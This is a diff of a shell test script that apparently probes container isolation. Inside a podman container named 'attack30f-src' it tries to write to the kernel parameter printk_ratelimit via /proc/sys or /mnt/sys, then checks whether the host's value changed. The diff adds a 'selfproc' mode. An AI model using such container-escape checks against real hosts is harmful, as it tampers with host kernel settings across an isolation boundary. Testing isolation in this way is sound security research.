@@ -22,8 +22,8 @@ for mode in "$@"; do
   fi
   case $mode in
     nosig) podman exec attack30f-src sh -c 'cat /tmp/count; grep " /proc/sys " /proc/self/mountinfo' 2>&1; echo "exec rc=$?";;
-    procsys*|procmnt|dupro|reparent*|sbro|nestns|dotpath)
-      PS=/proc/sys; [ $mode = procmnt ] && PS=/mnt/sys
+    procsys*|procmnt|selfproc|dupro|reparent*|sbro|nestns|dotpath)
+      PS=/proc/sys; case $mode in procmnt|selfproc) PS=/mnt/sys;; esac
       before=$(cat /proc/sys/kernel/printk_ratelimit)
       podman exec attack30f-src sh -c 'grep " /proc/sys \| /mnt " /proc/self/mountinfo; echo 7 > '$PS'/kernel/printk_ratelimit' 2>&1; echo "exec rc=$?"
       now=$(cat /proc/sys/kernel/printk_ratelimit); echo "host kernel.printk_ratelimit: before $before, now $now"
